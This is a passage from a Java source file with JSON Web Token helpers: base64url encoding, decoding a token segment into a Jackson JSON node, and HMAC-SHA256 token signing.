            return -1;
        } catch (Exception e) {
            return -1;
        }
    }

    private static com.fasterxml.jackson.databind.node.ObjectNode json(String base64) throws Exception {
        return (com.fasterxml.jackson.databind.node.ObjectNode) EventJson.MAPPER.readTree(Base64.getUrlDecoder().decode(base64));
    }

    private static String b64(String text) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String hs256(String header, String payload, byte[] key) throws Exception {
        var signingInput = b64(header) + "." + payload;
        var mac = Mac.getInstance("HmacSHA256");
        mac.init(new SecretKeySpec(key, "HmacSHA256"));
        return signingInput + "." + Base64.getUrlEncoder().withoutPadding()
                .encodeToString(mac.doFinal(signingInput.getBytes(StandardCharsets.UTF_8)));
    }
}
